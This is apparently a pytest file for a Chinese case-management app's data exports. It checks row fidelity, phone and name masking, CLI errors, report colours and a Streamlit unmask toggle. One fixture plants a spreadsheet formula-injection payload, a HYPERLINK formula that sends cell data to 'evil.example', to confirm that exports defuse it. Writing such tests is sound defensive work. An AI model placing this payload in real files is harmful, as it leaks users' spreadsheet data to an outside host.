"""Exports from the database, read back from disk and compared with the rows, on SQLite and PostgreSQL:
XLSX (openpyxl) and CSV (pandas; UTF-8 BOM and GB18030), masking, formula defusal, the indicator table,
the 平安报表 fills, and the ``python -m data_access export`` CLI (exit codes, Chinese errors)."""
import datetime as dt
import os
import re
import subprocess
import sys
import zipfile

import openpyxl
import pandas as pd
import pytest
from sqlalchemy import text

from analytics.warnings import evaluate, level_color
from data_access import case_list, queries
from data_access.case_list import CaseQuery
from data_access.judged import warning_table
from data_access.schema import cases as cases_t
from data_access.view import View
from data_access.writes import derive_columns, insert_frame
from exports import tables
from exports.safety import mask_text

from .conftest import AS_OF, ROOT
from .test_case_list import COUNTY, CITY, YEAR, codes, overdue, raw

STATUS = {"reported": "已受理", "dispatched": "处置中", "closed": "已办结", "reopened": "重新打开"}
MOBILE = re.compile(r"(?<!\d)1[3-9]\d{9}(?!\d)")

FILTERS = {
    "county, year": lambda t, v: (View(COUNTY, *YEAR), {}),
    "city, category + overdue": lambda t, v: (View(CITY, *YEAR, categories=("矛盾纠纷",)), {"overdue_only": True}),
    "township, source + status": lambda t, v: (View(t, *YEAR, sources=("网格员上报",), statuses=("closed",)), {}),
    "county, text": lambda t, v: (View(COUNTY, *YEAR), {"text": "通道"}),
    "village, month": lambda t, v: (View(v, dt.date(2026, 3, 1), dt.date(2026, 3, 31)), {}),
}


def expected(engine, view: View, **kw) -> pd.DataFrame:
    df = raw(engine, view)
    if kw.get("overdue_only"):
        df = df[overdue(df)]
    if kw.get("text"):
        df = df[df["description"].fillna("").str.contains(kw["text"], regex=False)]
    return df.reset_index(drop=True)


def read_xlsx(path) -> tuple[pd.DataFrame, dict]:
    wb = openpyxl.load_workbook(path, read_only=True)
    rows = list(wb["事件明细"].iter_rows(values_only=True))
    info = dict(wb["导出说明"].iter_rows(values_only=True))
    return pd.DataFrame(rows[1:], columns=rows[0]), info


def export(engine, q, fmt, path, **kw) -> int:
    with engine.connect() as conn:
        return tables.export_cases(conn, q, fmt, path, region_name="测试区域", **kw)


def _second(v):
    return None if v is None or pd.isna(v) else pd.Timestamp(v).round("s")


@pytest.mark.parametrize("name", list(FILTERS))
def test_xlsx_and_csv_hold_exactly_the_filtered_rows(small_db, tmp_path, name):
    engine, _ = small_db
    view, kw = FILTERS[name](*codes(engine))
    want = expected(engine, view, **kw)
    assert len(want) > 0
    q = CaseQuery(view, AS_OF, **kw)

    assert export(engine, q, "xlsx", tmp_path / "a.xlsx") == len(want)
    got, info = read_xlsx(tmp_path / "a.xlsx")
    assert info["行数"] == len(want) and info["个人信息"] == "已脱敏"
    assert info["时间段"] == f"{view.date_from} 至 {view.date_to}"
    assert list(got["事件编号"]) == list(want["id"])
    assert list(got["事件类别"]) == list(want["category"])
    assert list(got["事件来源"]) == list(want["source"])
    assert list(got["状态"]) == [STATUS[s] for s in want["status"]]
    assert list(got["是否逾期"]) == ["是" if o else "否" for o in overdue(want)]
    assert list(got["上报时间"].map(_second)) == list(want["reported_at"].map(_second))
    assert list(got["办理时限"].map(_second)) == list(want["deadline"].map(_second))
    assert list(got["办结时间"].map(_second)) == list(want["closed_at"].map(_second))
    assert list(got["事件描述"]) == [mask_text(d) for d in want["description"]]
    assert list(got["网格编码"]) == list(want["grid_code"])

    assert export(engine, q, "csv", tmp_path / "a.csv") == len(want)
    assert (tmp_path / "a.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    csv = pd.read_csv(tmp_path / "a.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert list(csv["事件编号"]) == list(want["id"])
    assert list(csv["上报时间"]) == [t.strftime("%Y-%m-%d %H:%M:%S") for t in want["reported_at"]]
    assert list(csv["状态"]) == [STATUS[s] for s in want["status"]]
    assert list(csv.columns) == list(got.columns)


def test_gb18030_csv(small_db, tmp_path):
    engine, _ = small_db
    q = CaseQuery(View(COUNTY, dt.date(2026, 9, 1), dt.date(2026, 9, 30)), AS_OF)
    n = export(engine, q, "csv-gb18030", tmp_path / "g.csv")
    body = (tmp_path / "g.csv").read_bytes()
    assert not body.startswith(b"\xef\xbb\xbf")
    df = pd.read_csv(tmp_path / "g.csv", encoding="gb18030", dtype=str)
    assert len(df) == n > 0 and df.columns[0] == "事件编号"
    assert df["县（市、区）"].eq("景宁畲族自治县").all()


def _all_text(path) -> str:
    """Every text in the file: an XLSX's text nodes of all its parts (numbers such as date serials are not
    text), a CSV's whole content."""
    if str(path).endswith(".xlsx"):
        with zipfile.ZipFile(path) as z:
            xml = "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.endswith(".xml"))
        return "\n".join(re.findall(r"<t(?:\s[^>]*)?>([^<]*)</t>", xml))
    return path.read_bytes().decode("utf-8-sig")


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_no_full_phone_number_unless_unmasked(small_db, tmp_path, fmt):
    engine, _ = small_db
    view = View(COUNTY, *YEAR)
    want = expected(engine, view)
    phones = set(want["citizen_phone"].dropna())
    in_text = want["description"].str.contains(MOBILE).sum()
    assert phones and in_text > 0  # the sample has numbers in the free text too
    q = CaseQuery(view, AS_OF)
    path = tmp_path / f"m.{fmt}"
    export(engine, q, fmt, path)
    body = _all_text(path)
    assert MOBILE.search(body) is None, MOBILE.search(body)
    names = (read_xlsx(path)[0] if fmt == "xlsx" else pd.read_csv(path, encoding="utf-8-sig", dtype=str))["群众姓名"]
    assert list(names) == [n[0] + "*" * (len(n) - 1) for n in want["citizen_name"]]

    export(engine, q, fmt, path, unmask=True)
    body = _all_text(path)
    assert all(p in body for p in phones)
    if fmt == "xlsx":
        got, info = read_xlsx(path)
        assert info["个人信息"] == "未脱敏（完整显示）"
        assert list(got["联系电话"]) == list(want["citizen_phone"])
        assert list(got["群众姓名"]) == list(want["citizen_name"])


@pytest.fixture
def evil_case(small_db):
    engine, _ = small_db
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看详情")'
    with engine.begin() as conn:
        grid = conn.execute(text("SELECT MIN(code) FROM grids WHERE code >= '331127' AND code < '331128'")).scalar()
        insert_frame(conn, cases_t, derive_columns(pd.DataFrame([{
            "id": "EVIL-1", "category": "信访诉求", "source": "浙里办自主上报", "grid_code": grid,
            "reported_at": dt.datetime(2026, 7, 1, 10), "closed_at": None, "deadline": dt.datetime(2026, 8, 30),
            "status": "reported", "is_major": False, "description": formula, "citizen_name": "@SUM(1+1)",
            "citizen_phone": "+1-555-0100", "handling_unit": "-2+3"}])))
    yield engine, formula
    with engine.begin() as conn:
        conn.execute(text("DELETE FROM cases WHERE id = 'EVIL-1'"))


def test_formula_injection_is_inert(evil_case, tmp_path):
    engine, formula = evil_case
    q = CaseQuery(View(COUNTY, dt.date(2026, 7, 1), dt.date(2026, 7, 1)), AS_OF)
    for unmask in (False, True):
        export(engine, q, "xlsx", tmp_path / "e.xlsx", unmask=unmask)
        wb = openpyxl.load_workbook(tmp_path / "e.xlsx")
        ws = wb["事件明细"]
        header = [c.value for c in ws[1]]
        row = next(r for r in ws.iter_rows(min_row=2) if r[0].value == "EVIL-1")
        desc = row[header.index("事件描述")]
        assert desc.data_type == "s" and desc.value == "'" + formula
        assert row[header.index("承办单位")].value == "'-2+3"
        if unmask:
            assert row[header.index("群众姓名")].value == "'@SUM(1+1)"
        with zipfile.ZipFile(tmp_path / "e.xlsx") as z:
            assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()
    export(engine, q, "csv", tmp_path / "e.csv")
    csv = pd.read_csv(tmp_path / "e.csv", encoding="utf-8-sig", dtype=str)
    cell = csv.loc[csv["事件编号"] == "EVIL-1", "事件描述"].iloc[0]
    assert cell == "'" + formula


def test_indicator_table_export(small_db, tmp_path):
    engine, _ = small_db
    view = View(COUNTY, *YEAR)
    with engine.connect() as conn:
        table = queries.indicator_table(conn, view, AS_OF)
    n = tables.export_indicators(table, view, "xlsx", tmp_path / "i.xlsx", region_name="景宁畲族自治县", as_of=AS_OF)
    assert n == len(table)
    wb = openpyxl.load_workbook(tmp_path / "i.xlsx")
    ws = wb["下级区域指标"]
    rows = list(ws.iter_rows(values_only=True))
    header = rows[0]
    assert header[:4] == ("名称", "区划代码", "受理量", "办结量")
    assert rows[1][0] == "景宁畲族自治县（合计）"
    assert [r[1] for r in rows[1:]] == list(table["code"])
    assert [r[2] for r in rows[1:]] == list(table["received"])
    rate = header.index("办结率")
    assert rows[2][rate] == pytest.approx(table["closure_rate"].iloc[1])
    assert ws.cell(2, rate + 1).number_format == "0.0%"
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref


def _rgb(cell) -> str:
    return "#" + cell.fill.fgColor.rgb[-6:].lower()


def test_safety_report_fills_are_the_rules_colours(small_db, tmp_path):
    engine, _ = small_db
    rules = tables.load_default_rules()
    month = tables.month_view(View(CITY, *YEAR), 2026, 9)
    with engine.connect() as conn:
        evaluated = evaluate(queries.indicator_table(conn, month, AS_OF), rules)
    n = tables.export_report(evaluated, rules, month, "xlsx", tmp_path / "r.xlsx", region_name="丽水市", as_of=AS_OF)
    assert n == len(evaluated)
    wb = openpyxl.load_workbook(tmp_path / "r.xlsx")
    ws = wb["平安报表"]
    header = [c.value for c in ws[1]]
    by_code = evaluated.set_index("code")
    seen = set()
    for r in range(2, ws.max_row + 1):
        code = ws.cell(r, header.index("区划代码") + 1).value
        ev = by_code.loc[code]
        for rule in rules.indicators:
            cell = ws.cell(r, header.index(rule.name) + 1)
            assert _rgb(cell) == level_color(rules, ev[f"level_{rule.key}"]).lower(), (code, rule.key)
            seen.add(_rgb(cell))
        overall = ws.cell(r, header.index("综合预警") + 1)
        assert overall.value == ev["overall_name"] and _rgb(overall) == ev["overall_color"].lower()
    assert len(seen) >= 2  # the sample has struggling places: more than one colour shows
    info = dict(wb["导出说明"].iter_rows(values_only=True))
    assert info["报表月份"] == "2026 年 9 月" and info["时间段"] == "2026-09-01 至 2026-09-30"
    assert "warning_rules.toml" in info["预警规则文件"]


def test_children_with_level_picks_the_colour(small_db):
    engine, _ = small_db
    rules = tables.load_default_rules()
    with engine.connect() as conn:
        ev = evaluate(queries.indicator_table(conn, View(CITY, *YEAR), AS_OF), rules)
    kids = ev[~ev["is_total"]]
    for name in tables.level_names(rules):
        got = tables.children_with_level(ev, rules, name)
        assert set(got) == {c for c, n in zip(kids["code"], kids["overall_name"]) if n == name}


# --- the CLI ---

def cli(url, *args, env=None):
    full = {k: v for k, v in os.environ.items() if k != tables.UNMASK_ENV}
    full.update(DATABASE_URL=url, **(env or {}))
    return subprocess.run([sys.executable, "-m", "data_access", "export", *args], cwd=ROOT, env=full,
                          capture_output=True, text=True, timeout=300)


def test_cli_exports_cases_indicators_and_report(small_db, tmp_path):
    engine, _ = small_db
    url = engine.url.render_as_string(hide_password=False)
    base = ["--region", COUNTY, "--from", "2026-01-01", "--to", "2026-10-31", "--as-of", "2026-11-01 00:00"]
    out = tmp_path / "c.xlsx"
    r = cli(url, *base, "--category", "矛盾纠纷,治安", "--status", "已办结", "--format", "xlsx", "-o", str(out))
    assert r.returncode == 0, r.stderr
    assert "已导出" in r.stdout
    want = expected(engine, View(COUNTY, *YEAR, categories=("矛盾纠纷", "治安"), statuses=("closed",)))
    got, info = read_xlsx(out)
    assert list(got["事件编号"]) == list(want["id"]) and info["事件状态"] == "已办结"

    out = tmp_path / "o.csv"
    r = cli(url, *base, "--overdue-only", "--text", "纠纷", "--format", "csv-gb18030", "-o", str(out))
    assert r.returncode == 0, r.stderr
    want = expected(engine, View(COUNTY, *YEAR), overdue_only=True, text="纠纷")
    assert list(pd.read_csv(out, encoding="gb18030", dtype=str)["事件编号"]) == list(want["id"])

    r = cli(url, *base, "--what", "indicators", "--format", "xlsx", "-o", str(tmp_path / "i.xlsx"))
    assert r.returncode == 0, r.stderr
    r = cli(url, *base, "--what", "report", "--month", "2026-09", "--format", "xlsx", "-o", str(tmp_path / "r.xlsx"))
    assert r.returncode == 0, r.stderr
    info = dict(openpyxl.load_workbook(tmp_path / "r.xlsx")["导出说明"].iter_rows(values_only=True))
    assert info["报表月份"] == "2026 年 9 月"


@pytest.mark.parametrize("args, message", [
    (["--region", "331199000000"], "区划代码 331199000000 不存在"),
    (["--region", "3311"], "格式不正确"),
    (["--from", "2026-02-30"], "不是有效日期"),
    (["--from", "2026-12-01"], "晚于结束日期"),
    (["--status", "done"], "未知的事件状态"),
    (["--category", "不存在的类别"], "事件类别 '不存在的类别' 在数据库中不存在"),
    (["--unmask"], "YIPING_ALLOW_UNMASK=1"),
    (["--what", "report", "--month", "2026-13"], "报表月份"),
])
def test_cli_bad_input_is_a_chinese_error_with_exit_code_2(small_db, tmp_path, args, message):
    engine, _ = small_db
    url = engine.url.render_as_string(hide_password=False)
    base = {"--region": COUNTY, "--from": "2026-01-01", "--to": "2026-10-31"}
    merged = []
    for key, value in base.items():
        if key not in args:
            merged += [key, value]
    out = tmp_path / "x.xlsx"
    r = cli(url, *merged, *args, "--format", "xlsx", "-o", str(out))
    assert r.returncode == 2, (r.stdout, r.stderr)
    assert message in r.stderr and "Traceback" not in r.stderr
    assert not out.exists() and not list(tmp_path.glob(".export-*"))


def test_cli_database_down(tmp_path):
    r = cli("postgresql+psycopg://nobody@127.0.0.1:9/none", "--region", COUNTY, "--from", "2026-01-01",
            "--to", "2026-10-31", "--format", "csv", "-o", str(tmp_path / "x.csv"))
    assert r.returncode == 2 and "无法连接数据库" in r.stderr and "Traceback" not in r.stderr


def test_cli_unmask_when_allowed(small_db, tmp_path):
    engine, _ = small_db
    url = engine.url.render_as_string(hide_password=False)
    out = tmp_path / "u.csv"
    r = cli(url, "--region", COUNTY, "--from", "2026-09-01", "--to", "2026-09-30", "--format", "csv", "-o", str(out),
            "--unmask", env={tables.UNMASK_ENV: "1"})
    assert r.returncode == 0, r.stderr
    want = expected(engine, View(COUNTY, dt.date(2026, 9, 1), dt.date(2026, 9, 30)))
    assert list(pd.read_csv(out, encoding="utf-8-sig", dtype=str)["联系电话"]) == list(want["citizen_phone"])


# --- the page's personal-data switch (AppTest) ---

def _data_page(engine, monkeypatch, allow: bool):
    from streamlit.testing.v1 import AppTest
    monkeypatch.setenv("DATABASE_URL", engine.url.render_as_string(hide_password=False))
    if allow:
        monkeypatch.setenv(tables.UNMASK_ENV, "1")
    else:
        monkeypatch.delenv(tables.UNMASK_ENV, raising=False)
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=90)
    at.query_params.update({"region": COUNTY, "from": "2026-09-01", "to": "2026-09-30"})
    at.run()
    at.switch_page("pages/data.py")
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def test_page_masks_unless_the_installation_allows_unmasking(small_sqlite, monkeypatch):
    at = _data_page(small_sqlite, monkeypatch, allow=False)
    assert not [t for t in at.toggle if t.label == "显示完整个人信息"]
    shown = at.dataframe[0].value
    assert shown["citizen_phone"].str.fullmatch(r"1\d\d\*{4}\d{4}").all()
    assert any("共 **" in m.value for m in at.markdown)

    at = _data_page(small_sqlite, monkeypatch, allow=True)
    toggle = next(t for t in at.toggle if t.label == "显示完整个人信息")
    assert toggle.value is False and at.dataframe[0].value["citizen_phone"].str.contains(r"\*").all()
    toggle.set_value(True).run()
    assert not at.exception
    assert at.dataframe[0].value["citizen_phone"].str.fullmatch(r"1\d{10}").all()
    assert any("完整个人信息" in c.value for c in at.caption)


@pytest.mark.parametrize("level", ["红", "数据不足"])
def test_page_warning_colour_filter(small_sqlite, monkeypatch, level):
    at = _data_page(small_sqlite, monkeypatch, allow=False)
    at.selectbox(key="data_warning").set_value(level).run()
    assert not at.exception and not at.error
    view = View(COUNTY, dt.date(2026, 9, 1), dt.date(2026, 9, 30))
    rules = tables.load_default_rules()
    now = dt.datetime.now().replace(second=0, microsecond=0)
    with small_sqlite.connect() as conn:
        kids = tables.children_with_level(warning_table(conn, view, now, rules), rules, level)
        want = case_list.count(conn, CaseQuery(view, now, regions=kids))
    shown = next(m.value for m in at.markdown if "共 **" in m.value)
    assert f"共 **{want:,}** 条事件" in shown
    if not kids:
        assert any(level in i.value and "没有" in i.value for i in at.info)
